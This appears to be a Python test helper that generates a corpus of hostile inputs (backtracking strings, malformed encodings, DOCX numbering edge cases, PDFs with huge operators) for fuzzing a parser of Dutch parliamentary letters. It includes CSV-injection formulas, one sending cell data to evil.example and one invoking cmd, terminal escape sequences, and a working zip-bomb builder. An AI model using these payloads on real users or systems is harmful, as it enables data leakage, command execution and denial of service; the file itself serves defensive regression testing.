"""The regression corpus of hostile inputs (issue 15), generated rather than stored.

Every input that once crashed, hung or blew up a run is built here from its description,
so that the tests (``tests/test_hostile.py``), the hypothesis properties and the atheris
harnesses (``benchmarks/fuzz_*.py``, which take the corpus as their seeds) all see the
same files::

    python tests/hostile_corpus.py OUT_DIR     # writes every case to OUT_DIR/

:data:`CASES` maps a file name to a function giving its bytes; the name's extension is
what a user would have called the file. Sizes are kept small where a budget (see
``graph/readers/base.py`` ``Limits``) can be lowered in the environment for the test.
"""
from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

SEED = Path(__file__).resolve().parent.parent / "data" / "000_b50105430c9bb7d0.txt"

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def seed_text() -> str:
    return SEED.read_text(encoding="utf-8")


def letter_with(body_line: str) -> bytes:
    """A short committee letter (letterhead, a fractie section, a question, a footnote)
    with ``body_line`` as a paragraph of its body."""
    return (
        "# Eerste Kamer der Staten-Generaal\n\n"
        "Minister van Asiel en Migratie\n\n"
        "datum 23 juni 2026\n"
        "betreft Vragen over de Asielnoodmaatregelenwet\n"
        "ons kenmerk 190001\n\n"
        "Geachte heer Van den Brink,\n\n"
        "## Vragen en opmerkingen van de leden van de fractie van D66\n\n"
        "De leden van de D66-fractie hebben kennisgenomen van de brief.<sup>1</sup> "
        "Kan de regering toelichten hoe zij de termijn bewaakt?\n\n"
        f"{body_line}\n\n"
        "Hoogachtend,\n\n"
        "Voorzitter van de vaste commissie voor Immigratie en Asiel\n\n"
        "---\n\n"
        "<sup>1</sup> Kamerstukken I 2025/26, 36 871, O, p. 4.\n"
    ).encode("utf-8")


# -- text: patterns that backtracked -------------------------------------------------------

def heading_spaces(n: int = 2000) -> bytes:
    """``# x`` + 2,000 spaces + ``y``: 42 s in the heading pattern (cubic)."""
    return letter_with("# x" + " " * n + "y")


def bold_repeat(n: int = 3000) -> bytes:
    return letter_with("**a " * n)


def bold_u_repeat(n: int = 3000) -> bytes:
    return letter_with("__a " * n)


def header_spaces(n: int = 3000) -> bytes:
    """``datum`` + many spaces where the page-header pattern looks."""
    return letter_with("Kan de regering dit toelichten?\n\ndatum" + " " * n + "\n")


def bangs(n: int = 20000) -> bytes:
    """Runs of ``!`` and ``.`` without a space for the sentence splitter."""
    return letter_with("Waarom" + "!" * n + "x" + "." * n + "y?")


# -- encodings, sizes ---------------------------------------------------------------------

def utf16_odd_xml() -> bytes:
    return b"\xff\xfe<\x00k\x00/\x00>\x00X"


def utf16_surrogate_xml() -> bytes:
    return b"\xff\xfe" + "<k/>".encode("utf-16-le") + b"\x00\xd8" + "x".encode("utf-16-le")


def utf16_letter_txt() -> bytes:
    """Seed letter 181524 saved as "Unicode" by Notepad: UTF-16 with a BOM."""
    return seed_text().encode("utf-16")


def random_bytes_txt(n: int = 4000) -> bytes:
    """Random bytes without a NUL: cp1252 decodes them all, so they looked like text."""
    import random

    rnd = random.Random(15)
    return bytes(rnd.choice(range(1, 256)) for _ in range(n))


def long_line_txt(n: int = 300_000) -> bytes:
    """One line longer than the line budget (a 50 MB single line was accepted)."""
    return letter_with("Kan de regering " + "zeer " * (n // 5) + "toelichten?")


def big_text_txt(mb: float = 2.2) -> bytes:
    """More text than a budget of 2 MB (the test lowers KAMERXREF_MAX_TEXT_MB)."""
    para = "De leden vragen de regering of zij kan toelichten hoe dit werkt. " * 20 + "\n\n"
    return letter_with(para * int(mb * 2**20 / len(para) + 1))


def footnote_numbers_txt() -> bytes:
    """Footnote bodies numbered ``1000`` and ``1a``: they became body text, their markers
    literal text inside the question."""
    return (
        "# Eerste Kamer der Staten-Generaal\n\n"
        "datum 23 juni 2026\nons kenmerk 190002\n\n"
        "Geachte heer Van den Brink,\n\n"
        "## Vragen en opmerkingen van de leden van de fractie van D66\n\n"
        "Hoe beoordeelt de regering het advies?<sup>1000</sup> "
        "En hoe de reactie daarop?<sup>1a</sup>\n\n"
        "Hoogachtend,\n\n---\n\n"
        "<sup>1000</sup> Kamerstukken I 2025/26, 36 871, O, p. 4.\n\n"
        "<sup>1a</sup> Kamerstukken I 2025/26, 36 871, O, p. 5.\n"
    ).encode("utf-8")


def ps_question_txt() -> bytes:
    """A question after the signature: it must be a question or a warning."""
    return (
        "# Eerste Kamer der Staten-Generaal\n\n"
        "datum 23 juni 2026\nons kenmerk 190003\n\n"
        "Geachte heer Van den Brink,\n\n"
        "De leden van de fractie van D66 vragen of de regering de termijn haalt?\n\n"
        "Hoogachtend,\n\n"
        "Voorzitter van de vaste commissie voor Immigratie en Asiel,\n\n"
        "M.M. de Boer\n\n"
        "PS: Kan de regering ook ingaan op de kosten?\n"
    ).encode("utf-8")


def control_chars_txt() -> bytes:
    """Terminal escapes and NUL-free control characters in the betreft and a question;
    a formula in the question text (CSV injection)."""
    return (
        "# Eerste Kamer der Staten-Generaal\n\n"
        "datum 23 juni 2026\n"
        "betreft Vragen \x1b[2J\x1b]0;pwned\x07 over \x1b[31mrood\x1b[0m\n"
        "ons kenmerk 190004\n\n"
        "Geachte heer Van den Brink,\n\n"
        "## Vragen en opmerkingen van de leden van de fractie van D66\n\n"
        "1. =HYPERLINK(\"http://evil.example/?\"&A1,\"klik\") Waarom?\n\n"
        "2. @SUM(1+1)*cmd|' /C calc'!A0 Hoe?<sup>1</sup>\n\n"
        "Hoogachtend,\n\n---\n\n"
        "<sup>1</sup> -2+3 Kamerstukken I 2025/26, 36 871, O, p. 4.\n"
    ).encode("utf-8")


# -- DOCX ----------------------------------------------------------------------------------

def docx(numbering_xml: str | None, paragraphs: list[tuple[str, str | None, str | None]],
         extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal Word document: ``paragraphs`` as ``(text, numId, ilvl)``."""
    def para(text, num, ilvl):
        ppr = ""
        if num is not None:
            ppr = (f'<w:pPr><w:numPr><w:ilvl w:val="{ilvl}"/><w:numId w:val="{num}"/>'
                   "</w:numPr></w:pPr>")
        return f"<w:p>{ppr}<w:r><w:t>{text}</w:t></w:r></w:p>"

    body = "".join(para(*p) for p in paragraphs)
    doc = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}"><w:body>'
           f"{body}</w:body></w:document>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        zf.writestr("word/document.xml", doc)
        if numbering_xml is not None:
            zf.writestr("word/numbering.xml", numbering_xml)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def numbering(start: str = "1", fmt: str = "decimal", ilvl: str = "0") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?><w:numbering xmlns:w="{W_NS}">'
            f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="{ilvl}"><w:start w:val="{start}"/>'
            f'<w:numFmt w:val="{fmt}"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
            f'<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>')


LETTER_PARAS = [("Geachte voorzitter,", None, None),
                ("Hoe beoordeelt de regering de termijn?", "1", "0"),
                ("Wat zijn de kosten?", "1", "0")]


def docx_start(start: str, fmt: str = "decimal") -> bytes:
    return docx(numbering(start, fmt), LETTER_PARAS)


def docx_bad_ilvl() -> bytes:
    return docx(numbering("1", "decimal", "x"),
                [("Geachte voorzitter,", None, None), ("Hoe beoordeelt de regering dit?", "1", "x")])


def docx_bomb(inflated_mb: int = 64, declared: int = 1024) -> bytes:
    """A DOCX whose ``word/styles.xml`` says it holds 1 KB but inflates to
    ``inflated_mb`` MB: the zip-bomb guard trusted the declared sizes."""
    ok = docx(None, LETTER_PARAS)
    payload = b"<w:styles>" + b" " * (inflated_mb * 2**20) + b"</w:styles>"
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = comp.compress(payload) + comp.flush()
    crc = zlib.crc32(payload)
    src = zipfile.ZipFile(io.BytesIO(ok))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info, src.read(info))
        info = zipfile.ZipInfo("word/styles.xml", (2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        zf.writestr(info, b"x")  # placeholder, replaced below
    data = bytearray(out.getvalue())
    # rewrite the last member by hand: the real deflate stream, the declared (lying) size
    loc = data.rfind(b"PK\x03\x04")
    cen = data.rfind(b"PK\x01\x02")
    name = b"word/styles.xml"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(raw), declared,
                        len(name), 0) + name
    central = bytearray(data[cen:])
    struct.pack_into("<3L", central, 16, crc, len(raw), declared)
    struct.pack_into("<L", central, 42, loc)
    eocd = central.rfind(b"PK\x05\x06")
    head = bytes(data[:loc]) + local + raw
    cd_size = len(central) - (len(central) - eocd)
    central_bytes = bytes(central[:eocd])
    # fix the central directory offset of every entry before it (unchanged) and the EOCD
    eocd_rec = bytearray(central[eocd:])
    cd_start = data.find(b"PK\x01\x02")
    central_all = bytes(data[cd_start:cen]) + central_bytes
    struct.pack_into("<2L", eocd_rec, 12, len(central_all), len(head))
    del cd_size
    return head + central_all + bytes(eocd_rec)


# -- PDF -----------------------------------------------------------------------------------

def pdf(contents: list[bytes], shared: bool = False, damage_checksum: bool = False) -> bytes:
    """A minimal PDF: one page per content stream (``shared``: every page draws the
    first stream), Helvetica, streams deflated."""
    objs: list[bytes] = []
    n_pages = len(contents)
    streams = contents[:1] if shared else contents
    # 1 catalog, 2 pages, 3 font, then streams, then pages
    first_stream = 4
    first_page = first_stream + len(streams)
    kids = " ".join(f"{first_page + i} 0 R" for i in range(n_pages))
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objs.append(f"<< /Type /Pages /Kids [{kids}] /Count {n_pages} >>".encode())
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for c in streams:
        z = zlib.compress(c)
        if damage_checksum:  # pdfminer still inflates it ("data-loss"), the check did not
            z = z[:-1] + bytes([z[-1] ^ 0xFF])
        objs.append(f"<< /Length {len(z)} /Filter /FlateDecode >>\nstream\n".encode() + z
                    + b"\nendstream")
    for i in range(n_pages):
        s = first_stream + (0 if shared else i)
        objs.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {s} 0 R "
                    f"/Resources << /Font << /F1 3 0 R >> >> >>".encode())
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_text_page(lines: list[str]) -> bytes:
    ops = [b"BT /F1 11 Tf 72 780 Td 14 TL"]
    for ln in lines:
        esc = ln.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        ops.append(b"(" + esc + b") '")
    ops.append(b"ET")
    return b"\n".join(ops)


def pdf_big_operator(n: int = 400_000, pages: int = 1) -> bytes:
    """A PDF of 1 KB with one 400,000-character text operator (18.7 s, 976 MB); with
    ``pages=4`` four pages draw the same stream."""
    return pdf([b"BT /F1 1 Tf 10 10 Td (" + b"a" * n + b") Tj ET"] * pages, shared=pages > 1)


def pdf_damaged_stream(n: int = 119_000) -> bytes:
    """Found by atheris (benchmarks/fuzz_pdf.py): a deflated content stream whose checksum
    fails holds a 119,000-character operator; the budget did not count it (zlib refused
    the stream), pdfminer inflated it anyway: 20 s, 292 MB."""
    return pdf([b"BT /F1 1 Tf 10 10 Td (" + b"a" * n + b") Tj ET"], damage_checksum=True)


# -- the corpus ----------------------------------------------------------------------------

CASES: dict[str, Callable[[], bytes]] = {
    "utf16-odd-length.xml": utf16_odd_xml,
    "utf16-lone-surrogate.xml": utf16_surrogate_xml,
    "utf16-bom-letter.txt": utf16_letter_txt,
    "random-bytes.txt": random_bytes_txt,
    "heading-spaces.txt": heading_spaces,
    "bold-repeat.txt": bold_repeat,
    "bold-underscore-repeat.txt": bold_u_repeat,
    "header-spaces.txt": header_spaces,
    "bangs.txt": bangs,
    "long-line.txt": long_line_txt,
    "footnote-numbers.txt": footnote_numbers_txt,
    "ps-question.txt": ps_question_txt,
    "control-chars.txt": control_chars_txt,
    "numbering-start-abc.docx": lambda: docx_start("abc"),
    "numbering-start-5000-digits.docx": lambda: docx_start("9" * 5000),
    "numbering-start-huge-roman.docx": lambda: docx_start("999999999999", "lowerRoman"),
    "numbering-start-huge-letter.docx": lambda: docx_start("999999999999", "lowerLetter"),
    "numbering-ilvl-x.docx": docx_bad_ilvl,
    "zip-bomb.docx": lambda: docx_bomb(64),
    "pdf-big-operator.pdf": pdf_big_operator,
    "pdf-shared-big-operator.pdf": lambda: pdf_big_operator(pages=4),
    "pdf-damaged-stream.pdf": pdf_damaged_stream,
}


def write_corpus(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, make in CASES.items():
        p = out / name
        p.write_bytes(make())
        paths.append(p)
    return paths


if __name__ == "__main__":  # pragma: no cover
    for p in write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")):
        print(p)
